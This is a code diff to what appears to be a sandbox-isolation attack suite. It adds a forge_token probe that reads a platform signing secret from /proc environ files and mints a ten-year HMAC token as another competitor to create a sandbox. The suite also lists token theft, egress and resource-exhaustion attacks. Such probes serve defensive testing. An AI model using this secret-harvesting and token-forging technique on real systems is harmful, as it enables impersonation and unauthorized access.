@@ -17,7 +17,10 @@ themselves.
 
 from __future__ import annotations
 
+import base64
 import contextlib
+import hashlib
+import hmac
 import http.client
 import json
 import os
@@ -488,6 +491,33 @@ def use_stolen_tokens(orders: Orders) -> Finding:
     return _finding(bool(stolen), detail, used=stolen, tokens=len(tokens))
 
 
+def _b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def forge_token(orders: Orders) -> Finding:
+    """Find the gateway's signing secret (``JANUS_PLATFORM_SECRET=`` in any environ it can
+    read), mint a ten-year platform token as another competitor with it (the token format
+    is public: ``janus/platform/tokens.py``), and create a sandbox with that token."""
+    secrets_seen = set()
+    for pid in _pids():
+        for entry in (_read(f"/proc/{pid}/environ") or b"").split(b"\0"):
+            if entry.startswith(b"JANUS_PLATFORM_SECRET=") and len(entry) > 22:
+                secrets_seen.add(entry.split(b"=", 1)[1])
+    for secret in secrets_seen:
+        key = hmac.new(secret, b"platform-tokens", hashlib.sha256).digest()
+        expires = time.time() + 10 * 365 * 24 * 3600
+        claims = _b64(json.dumps(["bystander", "forged", expires]).encode())
+        signature = _b64(hmac.new(key, claims.encode(), hashlib.sha256).digest()[:24])
+        token = f"jpt1.{claims}.{signature}"
+        status, body = _platform_call(orders, token, "POST", "/sandbox/api/sandboxes", {})
+        if status == 201:
+            sandbox_id = json.loads(body)["id"]
+            _platform_call(orders, token, "POST", f"/sandbox/api/sandboxes/{sandbox_id}/terminate")
+            return _finding(True, "a forged ten-year token as 'bystander' created a sandbox")
+    return _finding(False, f"{len(secrets_seen)} signing secret(s) found; no forged token worked")
+
+
 ATTACKS: dict[str, Callable[[Orders], Finding]] = {
     function.__name__: function
     for function in (
@@ -502,6 +532,7 @@ ATTACKS: dict[str, Callable[[Orders], Finding]] = {
         nested_user_namespace,
         network_egress,
         use_stolen_tokens,
+        forge_token,
         fork_bomb,
         memory_hog,
         tmpfs_fill,
